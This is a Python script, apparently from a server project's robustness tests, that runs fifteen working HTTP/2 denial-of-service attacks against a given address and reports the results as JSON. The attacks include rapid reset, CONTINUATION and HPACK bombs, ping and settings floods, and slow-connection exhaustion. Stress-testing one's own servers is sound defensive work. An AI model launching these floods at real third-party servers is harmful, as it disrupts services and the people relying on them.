"""One attack on a server's HTTP/2: attacks.py NAME HOST:PORT SECONDS [SOURCE]. Prints what it sent and how it ended as JSON.

SOURCE is the address that it comes from. It runs in a process of its own, so it may run in another network namespace.
"""
import contextlib
import json
import pathlib
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "robustness"))
try:
    import hpack
    import http2
except ImportError as missing:
    print(f"skipped: {missing}; run deploy/install-packages.sh test")
    sys.exit(77)
from http2 import (CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                   call_headers, fields, frame)

ADDRESS, SECONDS, SOURCE = "", 0.0, ""
CANCEL = struct.pack(">I", 8)


def connect(**more) -> http2.Connection:
    return http2.Connection(ADDRESS, source=SOURCE, **more)


def pump(chunk, first: bytes = b"", unread: bool = False) -> dict:
    """Sends `chunk` for SECONDS. Whenever the server ends the connection, goes on with another one."""
    end, sent, connections, last = time.monotonic() + SECONDS, 0, 0, ""
    while (left := end - time.monotonic()) > 0:
        try:
            one = connect(unread=unread)
        except OSError as error:
            last = repr(error)
            time.sleep(0.05)
            continue
        connections += 1
        try:
            one.socket.settimeout(max(left, 0.1))
            one.socket.sendall(first)
            sent += one.pump(chunk, left)
        except OSError as error:
            one.ended = repr(error)
        last = one.ended or "kept on"
        one.close()
        if last != "kept on":
            time.sleep(0.01)
    return {"sent": sent, "connections": connections, "end": last}


def rapid_reset() -> dict:
    headers = call_headers()

    def hundred(n: int) -> bytes:
        streams = range(1 + 200 * n, 201 + 200 * n, 2)
        return b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)
    return pump(hundred)


def rapid_reset_by_the_server() -> dict:
    """Calls that the server itself must reset: each updates its window by nothing, which is an error of the stream."""
    headers = call_headers()

    def hundred(n: int) -> bytes:
        streams = range(1 + 200 * n, 201 + 200 * n, 2)
        return b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
                        for stream in streams)
    return pump(hundred)


def endless_continuation() -> dict:
    return pump(frame(CONTINUATION, 0, 1, fields(("x-j", "v" * 1000)) * 10), frame(HEADERS, 0, 1, call_headers()))


def endless_field() -> dict:
    """One header field whose value never ends."""
    length = bytes(hpack.hpack.encode_integer(2**28, 7))
    return pump(frame(CONTINUATION, 0, 1, b"v" * 16384), frame(HEADERS, 0, 1, call_headers() + b"\x10\x03x-j" + length))


def hpack_bomb() -> dict:
    """4 KB in the table of names, asked for again and again by one byte: each byte is 4 KB of headers."""
    insert = b"\x40\x03x-b" + bytes(hpack.hpack.encode_integer(4000, 7)) + b"b" * 4000
    headers, bytes_of_one = call_headers(), b"\xbe" * 16000

    def bomb(n: int) -> bytes:
        return frame(HEADERS, 0, 3 + 2 * n, headers + bytes_of_one) + frame(CONTINUATION, END_HEADERS, 3 + 2 * n, bytes_of_one)
    return pump(bomb, frame(HEADERS, END_HEADERS, 1, headers + insert))


def large_headers() -> dict:
    """9 KB of headers, which Debian's gRPC does not take well (CVE-2023-1428)."""
    headers = call_headers(("x-pad", "p" * 9000), *[("grpc-tags-bin", "AAAA")] * 50)
    return pump(lambda n: frame(HEADERS, END_HEADERS, 1 + 2 * n, headers))


def ping_flood() -> dict:
    return pump(frame(PING, 0, 0, b"12345678") * 100)


def settings_flood() -> dict:
    return pump(frame(SETTINGS, 0, 0) * 100)


def unread_pings() -> dict:
    """Pings on four connections whose answers nobody reads: each answer waits in the server."""
    pings, end, sent = frame(PING, 0, 0, b"12345678") * 1000, time.monotonic() + SECONDS, 0
    kept = [connect(unread=True) for _ in range(4)]
    for one in kept:
        one.socket.setblocking(False)
    while time.monotonic() < end:
        for one in kept:
            with contextlib.suppress(OSError):
                sent += one.socket.send(pings)
    for one in kept:
        one.close()
    return {"connections": len(kept), "mib": sent >> 20}


def empty_data_flood() -> dict:
    return pump(frame(DATA, 0, 1) * 200, frame(HEADERS, END_HEADERS, 1, call_headers()))


def priority_flood() -> dict:
    return pump(frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 200)


def crowd(count: int, whole: bytes, at_once: int, each_second: bool = False) -> dict:
    """Opens `count` connections, sends the first `at_once` bytes of `whole` on each, then perhaps one byte a second."""
    end, kept, refused = time.monotonic() + SECONDS, [], 0
    for _ in range(count):
        try:
            kept.append(connect())
            kept[-1].socket.sendall(whole[:at_once])
        except OSError:
            refused += 1
    while time.monotonic() < end:
        time.sleep(min(1, max(0, end - time.monotonic())))
        for one in kept if each_second and at_once < len(whole) - 1 else []:
            try:
                one.socket.sendall(whole[at_once:at_once + 1])
            except OSError:
                one.ended = one.ended or "closed"
        at_once += 1
    ended = sum(one.ended is not None for one in kept)
    for one in kept:
        one.close()
    return {"connections": len(kept), "refused": refused, "ended_by_server": ended}


def half_headers() -> dict:
    """300 connections whose first HEADERS frame comes one byte a second."""
    return crowd(300, frame(HEADERS, END_HEADERS, 1, call_headers()), 20, each_second=True)


def silent_connections() -> dict:
    """More connections than the server may have files, all silent."""
    return crowd(3000, b"", 0)


def open_calls() -> dict:
    """600 calls on 60 connections that are open and silent."""
    headers = call_headers()
    return crowd(60, b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * n, headers) for n in range(10)), 1 << 20)


def readers_without_a_window() -> dict:
    """Sessions that send frames and take no byte of the results."""
    from harness import frame_requests, v1
    messages = [v1.StreamRequest(open=v1.StreamOpen(session="window-zero"))]
    for sequence in range(3):
        messages += frame_requests(sequence, 320, 180)
    body = b"".join(b"\0" + struct.pack(">I", m.ByteSize()) + m.SerializeToString() for m in messages)[:60000]
    data = [body[at:at + 16384] for at in range(0, len(body), 16384)]
    end, kept = time.monotonic() + SECONDS, []
    for _ in range(60):
        try:
            kept.append(connect(settings=struct.pack(">HI", 4, 0)))
            kept[-1].socket.sendall(frame(HEADERS, END_HEADERS, 1, call_headers())
                                    + b"".join(frame(DATA, 0, 1, part) for part in data))
        except OSError:
            pass
    time.sleep(max(0, end - time.monotonic()))
    ended = sum(one.ended is not None for one in kept)
    for one in kept:
        one.close()
    return {"connections": len(kept), "ended_by_server": ended}


ATTACKS = {attack.__name__: attack for attack in (
    rapid_reset, rapid_reset_by_the_server, endless_continuation, endless_field, hpack_bomb, large_headers, ping_flood,
    unread_pings, settings_flood, empty_data_flood, priority_flood, half_headers, silent_connections, open_calls,
    readers_without_a_window)}

if __name__ == "__main__":
    ADDRESS, SECONDS = sys.argv[2], float(sys.argv[3])
    SOURCE = sys.argv[4] if len(sys.argv) > 4 else ""
    print(json.dumps(ATTACKS[sys.argv[1]]()))
